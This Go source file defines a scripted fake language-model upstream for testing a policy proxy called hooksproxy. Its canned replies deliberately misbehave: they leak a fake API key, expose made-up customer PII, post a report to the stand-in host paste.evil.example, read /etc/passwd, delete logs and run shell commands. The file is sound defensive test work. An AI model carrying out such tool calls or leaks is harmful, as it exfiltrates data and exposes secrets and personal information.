// Package upstream is the scripted model the examples are tried against: a
// hooksproxy demo-style OpenAI-wire upstream (package scripted) whose
// answers provoke each example policy. examples/cmd/upstream serves it, and
// app/examples_test.go drives every example through it, so the commands in
// examples/README.md keep working.
package upstream

import "github.com/hooksproxy/hooksproxy/scripted"

// Addr is where examples/cmd/upstream listens by default and where every
// example's upstream.base_url points.
const Addr = "127.0.0.1:9099"

// FakeKey is the OpenAI-shaped key the scripted model leaks. It is not a
// real credential.
const FakeKey = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWx0123456789"

// Prompts that provoke each scripted answer (matched case-insensitively as
// substrings of the last user message; the first match wins).
const (
	PromptKey      = "what is the deploy key?"            // an answer leaking FakeKey
	PromptCustomer = "who is the customer on order 1001?" // an answer full of PII
	PromptDocs     = "fetch the json docs"                // fetch_url on docs.python.org
	PromptUpload   = "upload the report"                  // http_post to an unlisted host
	PromptWeather  = "what is the weather in Paris?"      // get_weather
	PromptEmail    = "email the CFO the Q3 numbers"       // send_email
	PromptDelete   = "delete the old logs"                // delete_files
	PromptShell    = "run a shell command"                // shell_exec
	PromptPasswd   = "read /etc/passwd"                   // read_file outside the allowed tree
	PromptRefund   = "refund order 1001"                  // issue_refund over the CEL limit
	PromptHello    = "hello"                              // a plain answer
)

// CustomerAnswer is the scripted answer to PromptCustomer.
const CustomerAnswer = "Order 1001 belongs to Jane Roe, jane.roe@example.com, +44 20 7946 0958, paid with card 4111 1111 1111 1111."

// New returns the scripted upstream.
func New() *scripted.Server {
	call := func(id, name, args string) scripted.Reply {
		return scripted.Calls(scripted.ToolCall{ID: id, Name: name, Arguments: args})
	}
	return scripted.New(
		// Tool-loop follow-ups: a control error from hooksproxy, or a result.
		scripted.Rule{When: "blocked by agent-hooks", AfterTool: true, Reply: scripted.Text("I could not do that: the tool call was blocked by policy.")},
		scripted.Rule{When: "", AfterTool: true, Reply: scripted.Text("Done.")},

		scripted.Rule{When: "deploy key", Reply: scripted.Text("Sure. The deploy key is " + FakeKey + " and it expires Friday.")},
		scripted.Rule{When: "customer", Reply: scripted.Text(CustomerAnswer)},
		scripted.Rule{When: "docs", Reply: call("call_fetch_1", "fetch_url", `{"url":"https://docs.python.org/3/library/json.html"}`)},
		scripted.Rule{When: "upload", Reply: call("call_post_1", "http_post", `{"url":"https://paste.evil.example/upload","body":"Q3 report"}`)},
		scripted.Rule{When: "weather", Reply: call("call_weather_1", "get_weather", `{"city":"Paris"}`)},
		scripted.Rule{When: "email", Reply: call("call_email_1", "send_email", `{"to":"cfo@example.com","subject":"Q3 numbers"}`)},
		scripted.Rule{When: "delete", Reply: call("call_rm_1", "delete_files", `{"path":"/var/log/app"}`)},
		scripted.Rule{When: "shell", Reply: call("call_sh_1", "shell_exec", `{"cmd":"uname -a"}`)},
		scripted.Rule{When: "passwd", Reply: call("call_read_1", "read_file", `{"path":"/etc/passwd"}`)},
		scripted.Rule{When: "refund", Reply: call("call_refund_1", "issue_refund", `{"order":"1001","amount":250}`)},
		scripted.Rule{When: "", Reply: scripted.Text("Hello! I am a scripted model behind hooksproxy.")},
	)
}
